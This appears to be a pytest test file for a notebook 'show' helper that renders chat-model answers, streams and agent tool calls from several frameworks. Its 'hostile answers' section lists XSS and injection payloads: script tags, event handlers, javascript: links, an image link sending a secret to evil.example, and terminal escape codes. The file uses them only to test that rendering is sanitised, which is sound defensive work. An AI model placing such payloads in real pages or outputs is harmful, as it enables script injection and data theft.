"""`show`: what people see of an answer, in a notebook and elsewhere, and what they get back."""

from __future__ import annotations

import asyncio
import base64
import io
import re
import signal
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from drivers import Driver
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, SystemMessage, ToolMessage
from llama_index.core.base.llms.types import ChatMessage, ChatResponse, ImageBlock, TextBlock, ToolCallBlock
from llama_index.core.base.response.schema import Response as QueryResponse
from llama_index.core.schema import NodeWithScore, TextNode
from PIL import Image

from kimi_adapters.local_server import LocalKimi
from kimi_adapters.notebook import markdown, screens, show
from kimi_core import (
    APIError,
    AsyncKimiClient,
    ConfigError,
    ImagePart,
    KimiClient,
    Message,
    Reasoning,
    Request,
    Response,
    TextPart,
    ToolCall,
)
from langchain_kimi import ChatKimi
from llama_index_kimi import KimiLLM

RUN = Path(__file__).parents[2] / "notebooks" / "run.py"
ODD_METADATA = {"cost_usd": "0.1", "model_name": ["kimi"], "host": {}, "finish_reason": 3}
QUESTION = "Harbour Coffee opened in May. When did Harbour Coffee open?"
ANSWER = "Harbour Coffee opened in May."
CHAT = [ChatMessage(role="user", content=QUESTION)]
REQUEST = Request(messages=[Message("user", QUESTION)], model="kimi-k2.6")


class Drawn(list[Any]):
    """What was displayed and how it was redrawn: in place of IPython's `display` and its handle."""

    def __call__(self, view: Any, *, display_id: bool) -> Drawn:
        assert display_id
        assert not self, "a second output"
        self.append(view)
        return self

    def update(self, view: Any) -> None:
        self.append(view)

    @property
    def html(self) -> str:
        return str(self[-1]._repr_mimebundle_()["text/html"])

    @property
    def plain(self) -> str:
        return str(self[-1]._repr_mimebundle_()["text/plain"])


@pytest.fixture
def drawn(monkeypatch: pytest.MonkeyPatch) -> Drawn:
    """A notebook, which shows each piece of a stream."""
    drawings = Drawn()
    monkeypatch.setattr("IPython.display.display", drawings)
    monkeypatch.setattr(screens, "in_notebook", lambda: True)
    for name, value in (("_OFTEN", 0), ("_REST", 0), ("_CHARACTERS_A_SECOND", 1e12)):
        monkeypatch.setattr(screens, name, value)
    return drawings


def ways(kimi: LocalKimi) -> dict[str, Any]:
    """Every kind of answer, by its name: what makes it, and how its text is found in what `show` returns."""
    where: dict[str, Any] = {"host": "moonshot", "base_url": kimi.base_url, "api_key": kimi.api_key}
    model, llm = ChatKimi(**where), KimiLLM(**where)
    client, aclient = KimiClient(**where), AsyncKimiClient(**where)
    return {
        "invoke": lambda: model.invoke(QUESTION),
        "stream": lambda: model.stream(QUESTION),
        "ainvoke": lambda: model.ainvoke(QUESTION),
        "astream": lambda: model.astream(QUESTION),
        "chat": lambda: llm.chat(CHAT),
        "stream_chat": lambda: llm.stream_chat(CHAT),
        "achat": lambda: llm.achat(CHAT),
        "astream_chat": lambda: llm.astream_chat(CHAT),
        "stream_complete": lambda: llm.stream_complete(QUESTION),
        "astream_complete": lambda: llm.astream_complete(QUESTION),
        "core complete": lambda: client.complete(REQUEST),
        "core stream": lambda: client.stream(REQUEST),
        "core async complete": lambda: aclient.complete(REQUEST),
        "core async stream": lambda: aclient.stream(REQUEST),
    }


WAYS = [
    *("invoke", "stream", "ainvoke", "astream", "chat", "stream_chat", "achat", "astream_chat", "stream_complete"),
    *("astream_complete", "core complete", "core stream", "core async complete", "core async stream"),
]


def shown(make: Any) -> Any:
    """Return what `show` returns, awaited where it must be."""

    async def run() -> Any:
        returned = show(make())
        return await returned if hasattr(returned, "__await__") else returned

    return asyncio.run(run())


def text_of(answer: Any) -> str:
    return str(answer.message.content if isinstance(answer, ChatResponse) else answer.text)


@pytest.mark.parametrize("way", WAYS)
def test_every_answer_is_shown_and_returned_whole(kimi: LocalKimi, drawn: Drawn, way: str) -> None:
    answer = shown(ways(kimi)[way])
    assert text_of(answer) == ANSWER
    assert f"<p>{ANSWER}</p>" in drawn.html
    assert ANSWER in drawn.plain
    thinking = re.search(r"<details><summary[^>]*>Thinking</summary>.*?The user says.*?</details>", drawn.html)
    assert thinking
    for known in ("kimi-k2.6", "moonshot", "22 tokens in", "39 out (32 thinking)", "about $0.000177"):
        assert known in drawn.html
        assert known in drawn.plain


@pytest.mark.parametrize("way", [way for way in WAYS if "stream" in way])
def test_a_stream_is_redrawn_as_it_comes_with_the_thinking_unfolded(kimi: LocalKimi, drawn: Drawn, way: str) -> None:
    shown(ways(kimi)[way])
    pages = [view._repr_html_() for view in drawn]
    assert "waiting for the answer" in pages[0]
    thinking = [page for page in pages if "<details open>" in page]
    assert len(thinking) > 5
    assert all(f"<p>{ANSWER}" not in page for page in thinking)
    assert "<details open>" not in pages[-1]
    assert re.search(r"\d\.\d s", pages[-1])


@pytest.mark.parametrize("way", WAYS)
def test_without_a_notebook_the_same_is_printed_once(
    kimi: LocalKimi, way: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(screens, "_OFTEN", 0)
    shown(ways(kimi)[way])
    printed = capsys.readouterr().out
    assert printed.startswith("[thinking] The user says")
    assert printed.count("[thinking]") == printed.count(f"\n{ANSWER}\n") == printed.count("39 out") == 1


def test_an_agents_conversation_is_shown_with_its_tools(kimi: LocalKimi, drawn: Drawn) -> None:
    from langchain.agents import create_agent

    def get_weather(city: str) -> str:
        """Say what the weather is like in a city."""
        return f"It is sunny in {city}."

    agent = create_agent(ChatKimi(base_url=kimi.base_url, api_key=kimi.api_key), [get_weather])
    result = show(agent.invoke({"messages": [("user", "What is the weather in Paris?")]}))
    assert [message.type for message in result["messages"]] == ["human", "ai", "tool", "ai"]
    for seen in ("user", "Call: get_weather(city=&#x27;Paris&#x27;)", "Result of get_weather: It is sunny in Paris."):
        assert seen in drawn.html
    assert "2 answers" in drawn.html


@pytest.mark.parametrize("mode", ["messages", "updates", "values"])
def test_the_stream_of_an_agent_is_its_messages(kimi: LocalKimi, drawn: Drawn, mode: Any) -> None:
    from langchain.agents import create_agent

    def get_weather(city: str) -> str:
        """Say what the weather is like in a city."""
        return f"It is sunny in {city}."

    agent = create_agent(ChatKimi(base_url=kimi.base_url, api_key=kimi.api_key), [get_weather])
    asked: Any = {"messages": [("user", "What is the weather in Paris?")]}
    messages = show(agent.stream(asked, stream_mode=mode))
    assert [message.type.removesuffix("MessageChunk").lower() for message in messages][-3:] == ["ai", "tool", "ai"]
    assert messages[-1].text == "The result of get_weather: It is sunny in Paris."
    assert "Result of get_weather" in drawn.html


async def test_the_events_of_a_llama_index_agent_are_a_conversation(kimi: LocalKimi, drawn: Drawn) -> None:
    from llama_index.core.agent.workflow import FunctionAgent

    def get_weather(city: str) -> str:
        """Say what the weather is like in a city."""
        return f"It is sunny in {city}."

    agent = FunctionAgent(tools=[get_weather], llm=KimiLLM(base_url=kimi.base_url, api_key=kimi.api_key))
    run = agent.run("What is the weather in Paris?")
    output = await show(run.stream_events())
    assert output.response.content == "The result of get_weather: It is sunny in Paris."
    assert str(await run) == output.response.content
    for seen in (
        "Thinking",
        "Call: get_weather",
        "Result of get_weather: It is sunny in Paris.",
        "2 answers",
        "tokens in",
    ):
        assert seen in drawn.html
    assert any("<details open>" in view._repr_html_() for view in drawn)


def test_ctrl_c_in_a_program_keeps_what_came(tmp_path: Path) -> None:
    with LocalKimi(chunk_delay=0.1) as slow:
        code = (
            # A shell that starts something in the background has it ignore Ctrl-C.
            "import signal; signal.signal(signal.SIGINT, signal.default_int_handler);"
            "from langchain_kimi import ChatKimi; from kimi_adapters.notebook import show;"
            f"model = ChatKimi(base_url={slow.base_url!r}, api_key={slow.api_key!r}, host='moonshot');"
            f"answer = show(model.stream({QUESTION!r})); print(type(answer).__name__)"
        )
        process = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
        assert process.stdout
        begun = process.stdout.read(len("[thinking] The"))
        process.send_signal(signal.SIGINT)
        rest, _ = process.communicate(timeout=20)
    assert begun == "[thinking] The"
    assert rest.splitlines()[-2:] == ["stopped", "AIMessageChunk"]


def test_the_hosts_own_tools_are_shown_in_both_frameworks(driver: Driver, kimi: LocalKimi, drawn: Drawn) -> None:
    model = driver.make(base_url=kimi.base_url, host="moonshot", api_key=kimi.api_key)
    show(driver.ask(model, "What happened at the harbour?", server_tools=["moonshot/web-search:latest"]).native)
    assert "Call: web_search(query=" in drawn.html
    assert "Result of web_search" in drawn.html


def test_what_a_query_engine_answered_is_shown_with_its_sources(drawn: Drawn) -> None:
    node = NodeWithScore(node=TextNode(text="Within 30 days.", metadata={"file_name": "returns.md"}), score=0.5)
    answer = QueryResponse("Within **30** days.", source_nodes=[node])
    assert show(answer) is answer
    assert "Result of retrieval from returns.md (0.50): Within 30 days." in drawn.html
    assert "<strong>30</strong>" in drawn.html


def picture(side: int = 900) -> bytes:
    file = io.BytesIO()
    Image.effect_noise((side, side), 90).save(file, "PNG")
    return file.getvalue()


def conversations(data: bytes, path: Path) -> dict[str, Any]:
    encoded = base64.b64encode(data).decode()
    url = f"data:image/png;base64,{encoded}"
    asked = {"type": "text", "text": "What is this?"}
    return {
        "langchain base64": [HumanMessage([asked, {"type": "image", "base64": encoded, "mime_type": "image/png"}])],
        "langchain url": [HumanMessage([asked, {"type": "image", "url": url}])],
        "langchain image_url": [HumanMessage([asked, {"type": "image_url", "image_url": {"url": url}}])],
        "langchain path": [HumanMessage([asked, {"type": "image", "path": path}])],
        "llama_index bytes": [
            ChatMessage(role="user", blocks=[TextBlock(text="What is this?"), ImageBlock(image=data)])
        ],
        "llama_index path": [ChatMessage(role="user", blocks=[TextBlock(text="What is this?"), ImageBlock(path=path)])],
        "core": [Message("user", (TextPart("What is this?"), ImagePart(url)))],
    }


@pytest.mark.parametrize("kind", conversations(picture(1), Path(__file__)))
def test_pictures_are_thumbnails(drawn: Drawn, tmp_path: Path, kind: str) -> None:
    data, path = picture(), tmp_path / "chart.png"
    path.write_bytes(data)
    show(conversations(data, path)[kind])
    source = re.search(r'<img src="data:image/png;base64,([^"]+)"', drawn.html)
    assert source
    with Image.open(io.BytesIO(base64.b64decode(source[1]))) as thumbnail:
        assert max(thumbnail.size) <= 240
    assert len(drawn.html) < len(data) / 4
    assert "What is this?" in drawn.plain
    assert "[picture" in drawn.plain


def test_no_file_is_read_when_that_is_asked_for_or_a_text_names_it(drawn: Drawn, tmp_path: Path) -> None:
    path = tmp_path / "chart.png"
    path.write_bytes(picture(20))
    show([HumanMessage([{"type": "image", "path": path}])], local_files=False)
    assert "<img" not in drawn.html
    drawn.clear()
    show([HumanMessage([{"type": "image", "path": str(path)}, {"type": "image", "url": path.as_uri()}])])
    assert "<img" not in drawn.html


@pytest.mark.parametrize("data", [b"", b"no picture", b"\x89PNG", b"<svg onload='alert(1)'/>"])
def test_what_is_no_picture_is_named(drawn: Drawn, data: bytes) -> None:
    show([Message("user", (ImagePart(f"data:image/png;base64,{base64.b64encode(data).decode()}"),))])
    assert "[picture]" in drawn.html


# -------------------------------------------------------------------------------------------- hostile answers

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "</details></div><iframe src=https://evil.example></iframe>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](/lab?reset)",
    "<javascript:alert(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "![x](https://evil.example/?secret=1)",
    "![x](javascript:alert(1))",
    '[a](https://good.example "t\\"><script>alert(1)</script>")',
    '```"><script>alert(1)</script>\nx\n```',
    "| <script> |\n|---|\n| <b onclick=alert(1)> |",
    "<!-- --><style>*{display:none}</style><base href=//evil.example><meta http-equiv=refresh>",
    "\x1b]0;owned\x07\x1b[2J\x9b2J",
    "\ud800 half of a character",
]
TAGS = {
    *("div", "p", "details", "summary", "a", "img", "pre", "code", "em", "strong", "s", "br", "hr", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6"),
}
ATTRIBUTES = {"style", "class", "open", "href", "title", "target", "rel", "src", "alt", "start"}


class Seen(HTMLParser):
    """Checks every tag and attribute of a page, as a browser would find them."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES
            if name == "href":
                assert re.match("https?://|mailto:", value or "")
            if name == "src":
                assert (value or "").startswith("data:image/png;base64,")
            if name == "style":
                assert "url(" not in (value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    handle_decl = unknown_decl = handle_pi = handle_comment


def everywhere(bad: str) -> dict[str, Any]:
    """A hostile text in every place that an answer has."""
    call = {"name": bad, "args": {bad: bad}, "id": "1", "type": "tool_call"}
    metadata = {"model_name": bad, "host": bad, "finish_reason": bad}
    block = ToolCallBlock(tool_call_id="1", tool_name=bad, tool_kwargs=bad)
    return {
        "langchain": [
            SystemMessage(bad),
            HumanMessage([{"type": "image", "url": bad}, {"type": bad, "url": bad}, {"type": "file", "filename": bad}]),
            AIMessage(
                [{"type": "reasoning", "reasoning": bad}, {"type": "text", "text": bad}],
                tool_calls=[call],
                response_metadata=metadata,
            ),
            ToolMessage(bad, tool_call_id="1", name=bad, status="error"),
        ],
        "llama_index": ChatResponse(
            message=ChatMessage(role="assistant", blocks=[TextBlock(text=bad), block]),
            raw={"model": bad, "host": bad},
            additional_kwargs={"finish_reason": bad},
        ),
        "core": Response(
            text=bad,
            reasoning=Reasoning(bad),
            tool_calls=(ToolCall(bad, bad, bad),),
            model=bad,
            host=bad,
            refusal=bad,
        ),
        "text": bad,
    }


@pytest.mark.parametrize("bad", HOSTILE)
@pytest.mark.parametrize("place", everywhere(""))
def test_nothing_in_an_answer_runs_loads_or_steers_a_terminal(drawn: Drawn, place: str, bad: str) -> None:
    show(everywhere(bad)[place])
    Seen().feed(drawn.html)
    for text in (drawn.html, drawn.plain):
        text.encode()
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


def test_a_picture_in_an_answer_is_a_link_and_not_loaded(drawn: Drawn) -> None:
    show("![chart](https://evil.example/?secret=1)")
    assert "<img" not in drawn.html
    assert 'href="https://evil.example/?secret=1"' in drawn.html
    assert 'rel="noopener noreferrer nofollow"' in drawn.html


@pytest.mark.parametrize("levels", [5, 30, 60, 2_000])
@pytest.mark.parametrize("mark", ["> ", "- > ", "1. "])
def test_no_text_is_lost_however_deep_it_stands(drawn: Drawn, mark: str, levels: int) -> None:
    show(mark * levels + "the end")
    assert "the end" in drawn.html


PRICE = '<span class="tex2jax_ignore">$</span>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("from $5 to $6", f"from {PRICE}5 to {PRICE}6"),
        ("$5-$10, then $7.", f"{PRICE}5-{PRICE}10, then {PRICE}7."),
        ("$x = 3$ and $5", f"$x = 3$ and {PRICE}5"),
        ("$a_1 * b * c$", "$a_1 * b * c$"),
        ("$a < b$", "$a &lt; b$"),
        (r"\(x^*y^*\) is it", r"\(x^*y^*\) is it"),
        ("\\[\nx\n\\]", "\\[\nx\n\\]"),
        ("$$\nx_1\n$$", "$$\nx_1\n$$"),
        ("`$x$ costs $5`", "<code>$x$ costs $5</code>"),
        (r"\( and \$5", f"( and {PRICE}5"),
    ],
)
def test_formulas_are_left_to_the_notebook_and_prices_are_none(drawn: Drawn, text: str, html: str) -> None:
    show(text)
    assert html in drawn.html


def test_a_text_of_nothing_but_openings_is_shown_whole(drawn: Drawn) -> None:
    show("\\(" * 5_000 + "$" * 5_001 + "end")
    assert drawn.html.count("(") >= 5_000
    assert "end" in drawn.html


def test_tables_and_code_are_readable_in_an_output(drawn: Drawn) -> None:
    show("| a | b |\n| --- | ---: |\n| c | 1 |\n\n```python\n1 < 2\n```")
    assert '<td style="text-align:left">c</td>' in drawn.html
    assert '<td style="text-align:right">1</td>' in drawn.html
    assert re.search(r'<pre style="[^"]*background: rgba[^"]*"><code>1 &lt; 2\n</code></pre>', drawn.html)


def test_the_lines_below_a_stream_are_one_while_it_comes(kimi: LocalKimi, drawn: Drawn) -> None:
    show(ways(kimi)["stream"]())
    first, *live = [view._repr_html_() for view in drawn][:-1]
    assert re.search(r">waiting for the answer …</div></div>$", first)
    assert all(re.search(r">[^<]*[\d.]+ s[^<]* …</div></div>$", page) for page in live)


def test_without_a_markdown_parser_the_text_is_shown_as_it_is(drawn: Drawn, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "_renderer", lambda: None)
    show("**bold** <b>&</b>")
    assert "**bold** &lt;b&gt;&amp;&lt;/b&gt;" in drawn.html


def test_a_page_has_no_colours_of_its_own(drawn: Drawn) -> None:
    show(
        [HumanMessage("Hello"), AIMessage([{"type": "reasoning", "reasoning": "Hm."}, {"type": "text", "text": "Hi"}])]
    )
    assert "background" not in drawn.html
    assert set(re.findall(r"(?<![-\w])color: ([^;\"]+)", drawn.html)) == {"inherit"}


def test_a_long_result_is_cut_and_the_page_says_so(drawn: Drawn) -> None:
    show([ToolMessage("x" * 1_000_000, tool_call_id="1", name="read")])
    assert len(drawn.html) + len(drawn.plain) < 60_000
    assert "980,000 more characters" in drawn.html


def test_of_long_reasoning_its_end_is_seen_while_it_comes(drawn: Drawn) -> None:
    def long() -> Iterator[Any]:
        for n in range(100):
            yield AIMessageChunk("", additional_kwargs={"reasoning_content": f"step {n} {'x' * 1_000}"}, id="1")

    show(long())
    live = [view._repr_html_() for view in drawn][-2]
    assert "step 99" in live
    assert "characters before …" in live
    assert "more characters" in drawn.html


# ------------------------------------------------------------------------------------------ how streams end


def pieces(error: BaseException | None = None) -> Iterator[Any]:
    yield AIMessageChunk("One, ", id="1")
    yield AIMessageChunk("two", id="1")
    if error:
        raise error


def test_stopping_a_stream_keeps_what_came(drawn: Drawn) -> None:
    answer = show(pieces(KeyboardInterrupt()))
    assert answer.text == "One, two"
    assert "One, two" in drawn.html
    assert "stopped" in drawn.html


def test_stopping_before_anything_came_is_an_interrupt(drawn: Drawn) -> None:
    def silent() -> Iterator[Any]:
        raise KeyboardInterrupt
        yield

    with pytest.raises(KeyboardInterrupt):
        show(silent())
    assert "stopped" in drawn.html


def test_a_cancelled_async_stream_keeps_what_came_in_its_output(drawn: Drawn) -> None:
    async def endless() -> AsyncIterator[Any]:
        yield AIMessageChunk("One", id="1")
        await asyncio.sleep(60)

    async def run() -> None:
        task = asyncio.ensure_future(show(endless()))
        await asyncio.sleep(0.05)
        task.cancel()
        await task

    with pytest.raises(asyncio.CancelledError):
        asyncio.run(run())
    assert "One" in drawn.html
    assert "stopped" in drawn.html


def test_a_stream_that_breaks_off_is_shown_as_far_as_it_came_and_raises(drawn: Drawn) -> None:
    with pytest.raises(APIError):
        show(pieces(APIError("lost")))
    assert "One, two" in drawn.html
    assert "broke off: APIError" in drawn.html


class Chunks:
    """A stream that is no generator."""

    def __init__(self) -> None:
        self._chunks = iter([AIMessageChunk("Hello")])

    def __iter__(self) -> Chunks:
        return self

    def __next__(self) -> AIMessageChunk:
        return next(self._chunks)


def test_a_stream_that_cannot_be_closed_is_shown(drawn: Drawn) -> None:
    assert show(Chunks()).text == "Hello"


def test_a_mistake_in_closing_a_stream_is_not_hidden(drawn: Drawn) -> None:
    class Broken(Chunks):
        def close(self) -> None:
            raise AttributeError("its own mistake")

    with pytest.raises(AttributeError, match="its own mistake"):
        show(Broken())


def test_an_abandoned_stream_is_closed(drawn: Drawn) -> None:
    closed = []

    def stream() -> Iterator[Any]:
        try:
            yield 7
        finally:
            closed.append(True)

    with pytest.raises(ConfigError, match=r"show\(\) takes messages, responses and streams .* not int"):
        show(stream())
    assert closed == [True]


@pytest.mark.parametrize("wrong", [None, 7, {"a": 1}, object(), [None]])
def test_what_is_no_answer_is_an_error_that_says_what_is(wrong: Any) -> None:
    with pytest.raises(ConfigError, match="show"):
        show(wrong)


def test_an_empty_stream_gives_none(drawn: Drawn) -> None:
    assert show(iter(())) is None


# --------------------------------------------------------------------------------------- the real surroundings


def test_importing_it_brings_neither_framework_nor_ipython() -> None:
    absent = ["IPython", "langchain_core", "llama_index.core", "markdown_it", "PIL", "openai"]
    code = f"import sys, kimi_adapters.notebook; print([m for m in {absent!r} if m in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_a_cell_has_one_output_and_the_answer(kimi: LocalKimi, tmp_path: Path) -> None:
    setup = (
        "from langchain_kimi import ChatKimi\nfrom kimi_adapters.notebook import show\n"
        f"model = ChatKimi(base_url={kimi.base_url!r}, api_key={kimi.api_key!r})"
    )
    asked = [f"answer = show(model.stream({QUESTION!r}))", f"answer = await show(model.astream({QUESTION!r}))"]
    cells = [nbformat.v4.new_code_cell(code) for code in (setup, *asked, "answer.text")]  # type: ignore[no-untyped-call]
    path = tmp_path / "one.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)  # type: ignore[no-untyped-call]
    command = [sys.executable, str(RUN), "--save", str(tmp_path / "saved"), str(path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    saved = nbformat.read(tmp_path / "saved" / path.name, as_version=4)  # type: ignore[no-untyped-call]
    _, sync, awaited, last = (cell["outputs"] for cell in saved["cells"])
    for outputs in (sync, awaited):
        assert [output["output_type"] for output in outputs] == ["display_data"]
        assert ANSWER in outputs[0]["data"]["text/html"]
        assert ANSWER in outputs[0]["data"]["text/plain"]
    assert last[0]["data"]["text/plain"] == repr(ANSWER)


@pytest.mark.parametrize(
    "answer",
    [
        AIMessage("Hello.", response_metadata=ODD_METADATA),
        ChatResponse(
            message=ChatMessage(role="assistant", content="Hello."),
            raw={"model": 3, "host": [], "usage": {"prompt_tokens": "many", "cost_usd": "0.1"}},
        ),
    ],
    ids=["langchain", "llama_index"],
)
def test_metadata_of_other_types_is_left_out(answer: Any, capsys: pytest.CaptureFixture[str]) -> None:
    show(answer)
    assert capsys.readouterr().out.strip() == "Hello."
